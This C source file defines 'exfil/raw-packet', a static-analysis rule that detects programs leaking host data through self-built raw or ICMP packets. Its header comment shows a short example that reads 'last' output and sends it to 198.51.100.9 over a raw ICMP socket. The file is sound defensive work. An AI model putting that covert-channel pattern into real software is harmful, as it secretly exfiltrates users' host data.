/* exfil/raw-packet: data of this host leave in packets that the program builds itself.
 *
 *     int out = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
 *     fread(packet.payload, 1, 48, popen("last", "r"));
 *     sendto(out, &packet, sizeof packet, 0, address_of("198.51.100.9"), size);
 *
 * Secrets in such a packet are exfil/secret-to-network's. Not caught: data told by when packets are
 * sent, or how many.
 */
#include <string.h>

#include "checkers/shared/channel/leak.h"

static const struct cargo {
    const char *class_name, *handle; /* of the origin; what it is read through, or NULL */
    const char *what;
    int weight;
} cargoes[] = {
    {"io.read", "pipe", "The output of a command", 30},
    {"io.read", "file", "The content of a file", 10},
    {"terminal.read", NULL, "What was typed", 20},
    {"environment", NULL, "A variable of the environment", 10},
    {"host.user", NULL, "A user of this host", 15},
    {"host.identity", NULL, "The identity of this host", 5},
};

static const struct cargo *find_cargo(struct vt_program *program, const struct vt_source *source) {
    for (size_t i = 0; i < sizeof cargoes / sizeof *cargoes; i++)
        if (vt_source_is(program, source, VT_FACT_ORIGIN, cargoes[i].class_name) &&
            (!cargoes[i].handle || vt_handle_is(program, source->event, cargoes[i].handle)))
            return &cargoes[i];
    return NULL;
}

/* True if REF sends by a socket for ICMP: nothing in its messages tells hosts apart. */
static bool is_icmp(struct vt_check *check, struct vt_event_ref ref) {
    enum { ICMP = 1, ICMPV6 = 58 };
    struct vt_program *program = vt_check_program(check);
    const struct vt_source *handle =
        vt_find_source(program, vt_trace_value(program, ref, VT_ROLE_HANDLE, VT_ABOUT_DATA),
                       VT_FACT_ALLOC, "socket");
    size_t nraw, count = 0;
    const struct vt_event_ref *raw =
        vt_program_events(program, VT_FACT_EFFECT, "net.raw", vt_check_arena(check), &nraw);
    for (size_t i = 0; handle && i < nraw; i++) {
        if (!vt_is_same_call(program, raw[i], handle->event))
            continue;
        const struct vt_trace *trace =
            vt_trace_value(program, raw[i], VT_ROLE_ARGUMENT, VT_ABOUT_DATA);
        const struct vt_source *sources = trace ? vt_trace_sources(trace, &count) : NULL;
        return count == 1 && sources[0].kind == VT_SOURCE_CONSTANT &&
               (sources[0].constant->number == ICMP || sources[0].constant->number == ICMPV6);
    }
    return false;
}

static bool visit(struct vt_check *check, struct vt_leak *leak, void *context) {
    struct vt_program *program = vt_check_program(check);
    const struct cargo *cargo = find_cargo(program, leak->source);
    (void)context;
    if (!cargo || vt_leak_way(program, leak->asked.ref) != VT_WAY_RAW)
        return false;
    if (vt_find_source(program, leak->trace, VT_FACT_ORIGIN, "secret") ||
        vt_leak_is_named(check, leak, "secret"))
        return true;
    if (vt_leak_is_named(check, leak, "random")) /* a nonce, say */
        return false;
    struct vt_peer peer = vt_leak_peer(check, leak);
    if (peer.kind == VT_PEER_LOCAL)
        return true;
    struct vt_finding *finding = vt_finding_new(check, leak->asked.ref);
    vt_leak_weigh(check, finding, leak, &peer);
    bool is_named = cargo->handle && strcmp(cargo->handle, "file") == 0 &&
                    vt_leak_is_named(check, leak, "host");
    if (is_named && is_icmp(check, leak->asked.ref))
        vt_finding_evidence(check, finding, "icmp", 30,
                            "No message of ICMP says which host it is from.");
    vt_finding_message(check, finding, "%s from `%s` is sent in a packet built by the program.",
                       is_named ? "The identity of this host" : cargo->what,
                       vt_source_function(program, leak->source));
    vt_finding_path(check, finding, leak->trace, leak->source, "It is read here",
                    "It is sent below the transport layer here");
    vt_finding_send(check, finding, 25 + cargo->weight);
    return true;
}

static void run(struct vt_check *check) {
    vt_leaks_to_network(check, visit, NULL);
}

const struct vt_rule vt_exfil_raw_packet = {
    .id = "exfil/raw-packet",
    .name = "RawPacket",
    .summary = "Data of this host leave in packets that the program builds itself",
    .description =
        "Data of this host reach a send on a raw or packet socket: the payload of an ICMP message, "
        "or fields of headers that nobody reads. Programs that measure a network fill such packets "
        "with a pattern, a time and a number; other data in them are a covert channel.",
    .help = "Send data over a transport that the declaration names. Fill packets for measuring "
            "with a pattern.",
    .cwe = "CWE-506,CWE-514",
    .precision = "medium",
    .severity = 8.0,
    .run = run,
};
